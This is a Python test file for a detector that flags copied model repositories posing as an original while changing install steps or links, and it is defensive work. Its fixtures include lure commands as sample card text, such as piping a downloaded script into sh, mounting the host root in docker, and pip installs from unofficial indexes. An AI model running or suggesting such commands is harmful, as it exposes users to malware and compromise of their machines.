"""Posing as another's work is common, and so is changing something; together they are high risk."""

from typing import Any

import pytest

from core.comparison.compare import compare
from core.comparison.findings import findings as card_findings
from core.comparison.results import Comparison
from core.findings import Finding, Level, finding
from core.identity.results import Relation
from core.passing_off import passing_off
from core.progress import CancelToken, ignore_progress
from core.repository import ModelFacts, Snapshot
from tests.core.snapshots import FakeHub, snapshot

WORDS = " ".join(f"word{number} means thing{number}" for number in range(80))
CARD = f"# Heron\n\n{WORDS}\n\nRead [the paper](https://heron.example/paper).\n\n```\npip install transformers\n```\n"
MAKER = snapshot("maker/Heron", {"model.safetensors": (9_000_000, "a" * 64)}, CARD, age_days=900)


def copied(card: str = CARD, **facts: Any) -> Snapshot:  # noqa: ANN401
    files = facts.pop("files", {"model.safetensors": (9_000_000, "a" * 64)})
    return snapshot("copier/Heron", files, card, **facts)


def judged(
    here: Snapshot, relation: Relation = Relation.IDENTICAL_WEIGHTS, *more: Finding, original: Snapshot | None = MAKER
) -> tuple[Finding, ...]:
    comparison: Comparison = compare(here, original, FakeHub(here), ignore_progress, CancelToken())
    return passing_off(here, original, relation, comparison, (*card_findings(comparison), *more))


def test_a_mere_copy_is_not_high_risk() -> None:
    assert judged(copied()) == ()


@pytest.mark.parametrize(
    "here",
    [
        copied(CARD.replace("https://heron.example/paper", "https://elsewhere.example/paper")),
        copied(CARD + "\n```\npip install heron-runtime-helper\n```\n"),
        copied(CARD + "\n```\ncurl -s https://get.example/x.sh | sh\n```\n"),
        copied(CARD + "\n```\npip install torch numpy pandas scipy tqdm einops heron-runtime-helper\n```\n"),
        copied(CARD + "\n```\npip install git+https://github.com/copier/transformers\n```\n"),
        copied(CARD + "\n```\npip install torch --extra-index-url https://pypi.example/simple\n```\n"),
        copied(CARD + "\n```\ndocker run -v /:/host registry.example/heron:latest\n```\n"),
        copied(files={"model.safetensors": (9_000_000, "a" * 64), "requirements.txt": b"heron-helper\n"}),
        copied(CARD + "\nMore weights: https://t.me/heronweights\n"),
        copied(CARD + "\n[Heron for Windows](https://heron-app.example/Heron.exe)\n"),
        copied(CARD + "\nA mirror of maker/Heron. [Installer](https://heron-app.example/Heron.exe)\n"),
        copied(CARD + "\n[App](https://heron-app.example/Heron.msi)\n", base_models=("maker/Heron",)),
        copied(model=ModelFacts(auto_map=(("AutoModel", "heron.Model"),))),
    ],
)
def test_a_copy_that_changes_what_people_run_or_visit_is(here: Snapshot) -> None:
    (found,) = judged(here)
    assert found.rule == "joint.passing-off"
    assert found.level is Level.HIGH
    assert {fact.label for fact in found.evidence} == {"passing_off_claim", "passing_off_change"}


@pytest.mark.parametrize(
    "here",
    [
        copied(CARD.replace("https://heron.example/paper", "https://huggingface.co/copier/Heron/blob/main/p.pdf")),
        copied(CARD + "\n```\npip install -U transformers accelerate torch\n```\n"),
        copied(CARD + "\n```\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```\n"),
        copied(CARD + "\n```\npip install git+https://github.com/huggingface/transformers\n```\n"),
        copied(CARD + "\n```\nsudo apt-get install -y ffmpeg\n```\n"),
        copied(CARD + "\n```\ndocker run --gpus all vllm/vllm-openai:latest --model maker/Heron\n```\n"),
        copied(CARD + "\n```\npip install heron-runtime-helper\n```\n", base_models=("maker/Heron",)),
        copied(CARD + "\nA mirror of maker/Heron.\n\n```\npip install heron-runtime-helper\n```\n"),
        copied(
            CARD + "\nFork of [the original](https://huggingface.co/maker/Heron).\n",
            files={"model.safetensors": (9_000_000, "a" * 64), "requirements.txt": b"heron-helper\n"},
        ),
        copied(CARD + "\nTalk to us on [Discord](https://discord.gg/heron).\n"),
        copied(CARD + "\nRun it with [Ollama](https://ollama.com/download/OllamaSetup.exe).\n"),
        snapshot("forker/Heron", {}, "# Mine\n\n```\npip install heron-runtime-helper\n```\n"),
    ],
)
def test_what_forks_do_is_not(here: Snapshot) -> None:
    assert judged(here) == ()


def test_a_conversion_may_differ() -> None:
    here = copied(CARD + "\n```\npip install heron-runtime-helper\n```\n")
    assert judged(here, Relation.CONVERTED) == ()


def test_another_template_in_the_originals_place_counts() -> None:
    original = snapshot("maker/Heron", {}, CARD, model=ModelFacts(chat_template="{{ a }}"))
    here = copied(model=ModelFacts(chat_template="{{ a }} visit https://x.example"))
    assert judged(here, original=original)
    assert not judged(copied(model=ModelFacts(chat_template="{{ a }}\n")), original=original)


def test_a_look_alike_account_poses_by_itself() -> None:
    alike = finding("identity.look-alike-account", account="maken", other="maker")
    steers = finding("scanning.template-code", "a.jinja", level=Level.CAREFUL, called="x")
    here = snapshot("maken/Heron", {}, "# Mine\n")
    assert judged(here, Relation.CONVERTED, alike, steers)
    assert not judged(here, Relation.CONVERTED, steers)
    assert not judged(here, Relation.CONVERTED, alike)


def test_a_borrowed_name_without_an_original_needs_a_program_to_lead_to() -> None:
    borrows = finding("identity.brand-in-account", account="maker-desktop", other="maker")
    run = finding("joint.run-instruction", "start.py", command="python start.py")
    card = "# Heron\n\n[{}]({})\n"
    lure = snapshot("maker-desktop/heron", {}, card.format("Download for Windows", "https://files.example/get"))
    assert judged(lure, Relation.NAMED_ALIKE, borrows, original=None)
    assert not judged(lure, Relation.NAMED_ALIKE, original=None)
    fans = snapshot("maker-desktop/heron", {}, card.format("our club", "https://club.example/"))
    assert not judged(fans, Relation.NAMED_ALIKE, borrows, run, original=None)


def test_of_a_card_that_cannot_be_read_nothing_is_known_to_be_new() -> None:
    gated = snapshot("maker/Heron", (*MAKER.files,), None, age_days=900)
    posing = finding("identity.not-the-publisher", original="maker/Heron", account="copier", owner="maker")
    here = copied(CARD + "\n```\npip install heron-runtime\n```\n")
    assert compare(here, gated, FakeHub(here), ignore_progress, CancelToken()).cards is None
    assert not judged(here, Relation.IDENTICAL_WEIGHTS, posing, original=gated)
    away = copied(CARD + "\nMore weights: https://t.me/heronweights\n")
    assert judged(away, Relation.IDENTICAL_WEIGHTS, posing, original=gated)


def test_a_claimed_brand_without_an_original_needs_an_address_to_install_from() -> None:
    claims = finding("identity.claims-brand", level=Level.CAREFUL, publisher="Maker", account="copier")
    card = "# Heron\n\nDeveloped by Maker.\n\n```\npip install {}\n```\n"
    here = snapshot("copier/heron", {}, card.format("https://get.example/heron.whl"))
    assert judged(here, Relation.NAMED_ALIKE, claims, original=None)
    assert not judged(here, Relation.NAMED_ALIKE, original=None)
    usual = snapshot("copier/heron", {}, card.format("flax"))
    assert not judged(usual, Relation.NAMED_ALIKE, claims, original=None)
